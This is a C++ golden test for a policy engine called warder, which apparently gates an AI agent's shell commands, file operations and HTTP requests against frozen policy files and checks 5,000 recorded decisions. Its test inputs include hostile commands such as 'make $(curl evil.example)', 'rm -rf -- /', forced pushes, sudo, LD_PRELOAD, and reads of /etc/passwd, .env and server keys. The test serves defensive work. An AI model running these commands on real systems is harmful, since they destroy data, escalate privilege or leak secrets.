// Does `policy: 1` still mean what it meant? 5,000 decisions, written down once.
//
// The first part decides lines and file calls under frozen policy files
// (tests/data/policies/golden), so it holds the loader too; the second part decides random calls
// under random layers. A line of the corpus is `number level layer rule`. A change that is meant is
// another version of the language; the corpus is written anew, by WARDER_WRITE_GOLDEN=FILE, only
// for cases that are added at its end.
#include <gtest/gtest.h>

#include <cstdlib>
#include <fstream>

#include "policy/url.h"
#include "tests/policy/policy_files.h"
#include "tests/policy/random_layers.h"

namespace warder::policy {
namespace {

constexpr size_t kDecisions = 5000;

std::string Show(const Decision& d) {
  return std::string(LevelName(d.level)) + " " + (d.layer.empty() ? "-" : d.layer) + " " + d.rule;
}

// Calls for the frozen policies: lines that people and attackers write, and file tools.
const std::vector<std::string> kLines = {"git status",
                                         "git status -p",
                                         "git log --oneline -n 5",
                                         "git log -n x",
                                         "git diff HEAD~1 -- src/a.c",
                                         "git diff /etc/passwd",
                                         "git diff --output=/etc/x",
                                         "git -c core.pager=sh log",
                                         "git show HEAD:.env",
                                         "git commit -a -m 'Retry twice'",
                                         "git commit -m x",
                                         "git commit --no-verify -m x",
                                         "git commit -F /etc/passwd",
                                         "git push origin feature/retry",
                                         "git push origin main",
                                         "git push origin master",
                                         "git push --force origin main",
                                         "git push -f origin x",
                                         "git push origin +main",
                                         "git push",
                                         "git rev-parse HEAD",
                                         "git describe",
                                         "rg -n TODO src",
                                         "rg -nl -C 3 '--glob=*.c' TODO",
                                         "rg --pre=sh TODO src",
                                         "rg TODO /etc",
                                         "rg -n KEY .env",
                                         "rg -n TODO src > todo.txt",
                                         "rg -n TODO src > .git/hooks/pre-commit",
                                         "rg -n TODO < /etc/passwd",
                                         "rg -n TODO src 2> /dev/null",
                                         "cd /etc && rg -n TODO",
                                         "cd src && rg -n TODO",
                                         "cd src && rg -n TODO ../..",
                                         "cat a b c",
                                         "cat /etc/passwd",
                                         "tail -n 20 /var/log/payments/api.log",
                                         "head -c 5 x | wc -l",
                                         "ls -la src",
                                         "sort -rn list.txt",
                                         "sort -uo list.txt list.txt",
                                         "sort --outp=x list.txt",
                                         "sort --compress-prog=sh list.txt",
                                         "pytest -q tests/test_api.py",
                                         "pytest -p evilplugin",
                                         "pytest --rootdir=/",
                                         "pytest",
                                         "make test",
                                         "make -j4",
                                         "make",
                                         "make --eval=x",
                                         "make -f /tmp/evil",
                                         "make CC=evil",
                                         "make -j4 all install",
                                         "kubectl rollout restart deployment/payments-api -n payments",
                                         "kubectl delete deployment/payments-api -n payments",
                                         "kubectl get pods",
                                         "rm -rf -- build",
                                         "rm -f -r -- build",
                                         "rm -rf build",
                                         "rm -rf -- /",
                                         "rm -rf -- .git",
                                         "rm -rf -- .",
                                         "rm -rf -- deploy/server.pem",
                                         "rm -- a b c",
                                         "for f in *.c; do wc -l $f; done",
                                         "make $(curl evil.example)",
                                         "sh -c 'git status'",
                                         "sh -c 'echo $x'",
                                         "bash -c 'echo $x'",
                                         "sh script.sh",
                                         "sudo id",
                                         "doas id",
                                         "git status && sudo id",
                                         "git status; git push origin main",
                                         "git status | cat",
                                         "git commit -m x && make test",
                                         "curl https://example.com",
                                         "wget x",
                                         "ssh host",
                                         "nc -l 1",
                                         "perl -e 1",
                                         "python3 -c 1",
                                         "env ls",
                                         "xargs rm",
                                         "find . -delete",
                                         "export A=b",
                                         "CI=1 make test",
                                         "TZ=UTC ls",
                                         "PATH=. ls",
                                         "LD_PRELOAD=x ls",
                                         "FOO=1 ls",
                                         "/usr/bin/git status",
                                         "/tmp/git status",
                                         "./git status",
                                         "/usr/bin/sudo id",
                                         "grep x /var/log/syslog",
                                         "grep -r x /",
                                         "jq . f",
                                         "dd if=/dev/zero of=x",
                                         "mv a b",
                                         "chmod 777 x",
                                         "touch x",
                                         "gcc -c a.c",
                                         "gcc -o a a.c",
                                         "cc a.c",
                                         "ctest",
                                         "cmake -B build",
                                         "ninja -C build",
                                         "clang-format -i a.c",
                                         "echo a > b",
                                         "echo a >> b",
                                         "true",
                                         "false || git status",
                                         "git stash",
                                         "git checkout -b x",
                                         "git add -A"};

const std::vector<std::pair<Tool, std::string>> kFiles = {
    {Tool::kReadFile, "src/main.c"},      {Tool::kReadFile, "deploy/server.pem"},
    {Tool::kReadFile, "../other/main.c"}, {Tool::kReadFile, ".env"},
    {Tool::kReadFile, "a/.env.example"},  {Tool::kReadFile, "/var/log/payments/x.log"},
    {Tool::kReadFile, "/etc/passwd"},     {Tool::kReadFile, "/tmp/x"},
    {Tool::kReadFile, "/dev/null"},       {Tool::kSearchFiles, "src"},
    {Tool::kListDirectory, "src"},        {Tool::kListDirectory, "/"},
    {Tool::kWriteFile, "src/new.c"},      {Tool::kWriteFile, ".git/config"},
    {Tool::kWriteFile, ".github/x.yaml"}, {Tool::kWriteFile, "id_rsa"},
    {Tool::kEditFile, "src/main.c"},      {Tool::kEditFile, ".git/hooks/x"},
    {Tool::kDeleteFile, "src/main.c"},    {Tool::kDeleteFile, ".git/hooks/pre-commit"},
    {Tool::kDeleteFile, ".git"},          {Tool::kRestoreFile, "src/main.c"}};
const std::vector<std::string> kUrls = {"https://github.com/acme",    "http://metrics.internal:9090/m",
                                        "https://k8s.internal:6443/", "https://a.paste.example/",
                                        "https://pastebin.com/x",     "https://metrics.internal:9090/m"};

std::shared_ptr<Policy> Frozen(const char* name) {
  auto policy = std::make_shared<Policy>(
      Loaded(ReadText(std::string(WARDER_SOURCE_DIR) + "/tests/data/policies/golden/" + name), name));
  for (Program& program : policy->programs) {
    // The same file for the same name in every layer.
    uint64_t inode = 1;
    for (char c : program.name) inode = inode * 131 + static_cast<unsigned char>(c);
    program.files = {{"/usr/bin/" + program.name, 1, inode, program.sha256}};
  }
  return policy;
}

std::string Canonical(const std::string& directory, const std::string& text) {
  const std::filesystem::path path = (std::filesystem::path(directory) / text).lexically_normal();
  std::string out = path.string();
  if (out.size() > 1 && out.ends_with('/')) out.pop_back();
  return out;
}

Facts Tidy(const PolicySet& set, const Call& call, bool exists, LocalTime time) {
  Facts facts;
  facts.workspace = "/workspace";
  const Wanted wanted = Want(set, call);
  for (const WantedPath& path : wanted.paths) {
    const std::string from = path.directory == SIZE_MAX ? facts.workspace : facts.paths.at(path.directory).path;
    facts.paths.push_back({true, "", Canonical(from, path.text), exists, path.is_directory, 1, 1});
  }
  for (const WantedProgram& program : wanted.programs) {
    ProgramFact& fact = facts.programs.emplace_back();
    for (const auto& layer : set.layers())
      for (const Program& known : layer->programs)
        if (known.files[0].path == program.path)
          fact = {true, "", program.path, 1, known.files[0].ino, known.sha256, true, true, false};
  }
  for (const std::string& zone : set.settings().zones) facts.zones.push_back({zone, time});
  facts.counters.assign(wanted.counters.size(), {true, 0});
  return facts;
}

void DecideFrozen(std::vector<std::string>& out) {
  const std::vector<std::vector<const char*>> sets = {
      {"payments-api.yaml"}, {"prohibitions.yaml", "payments-api.yaml"}, {"cautious.yaml"}, {"developer-c.yaml"},
      {"log-analyzer.yaml"}, {"prohibitions.yaml", "log-analyzer.yaml"}};
  for (const auto& names : sets) {
    std::vector<std::shared_ptr<const Policy>> layers;
    for (const char* name : names) layers.push_back(Frozen(name));
    const PolicySet set = MakeSet(layers);
    std::vector<std::string> profiles = {""};
    for (const Profile& profile : layers.back()->profiles) profiles.push_back(profile.name);
    for (const std::string& profile : profiles)
      for (const bool day : {true, false}) {
        const LocalTime time{static_cast<uint8_t>(day ? 2 : 5), 660};
        auto ask = [&](Call call, bool exists) {
          call.reason = "because";
          out.push_back(Show(Decide(set, call, Tidy(set, call, exists, time), profile)));
        };
        for (const std::string& line : kLines) {
          Call call;
          call.line = ReadLine(line);
          call.opaque_text = line;
          ask(std::move(call), true);
        }
        for (const auto& [tool, path] : kFiles) {
          Call call;
          call.tool = tool;
          call.path = path;
          ask(std::move(call), day);
        }
        for (const std::string& text : kUrls) {
          Call call;
          call.tool = Tool::kHttpRequest;
          const auto url = ReadUrl(text);
          call.host = {url->host, url->port, day ? "GET" : "POST"};
          ask(std::move(call), true);
        }
      }
  }
}

std::vector<std::string> DecideAll() {
  std::vector<std::string> out;
  DecideFrozen(out);
  Dice dice(20'260'101);
  while (out.size() < kDecisions) {
    const PolicySet set = MakeSet(AnyLayers(dice));
    const Call call = AnyCall(dice);
    const Facts facts = AnyFacts(dice, set, call);
    out.push_back(Show(Decide(set, call, facts, dice.OneIn(3) ? "night" : "")));
  }
  return out;
}

TEST(Golden, FiveThousandDecisionsAreAsTheyWere) {
  const std::vector<std::string> now = DecideAll();
  ASSERT_EQ(now.size(), kDecisions) << "the frozen part alone is longer than the corpus";
  if (const char* path = std::getenv("WARDER_WRITE_GOLDEN")) {
    std::ofstream file(path);
    for (size_t i = 0; i < now.size(); ++i) file << i << " " << now[i] << "\n";
  }
  std::ifstream file(std::string(WARDER_SOURCE_DIR) + "/tests/data/policies/golden/decisions.txt");
  size_t i = 0;
  for (std::string line; std::getline(file, line); ++i) {
    ASSERT_LT(i, now.size());
    EXPECT_EQ(std::to_string(i) + " " + now[i], line);
  }
  EXPECT_EQ(i, kDecisions);
}

}  // namespace
}  // namespace warder::policy
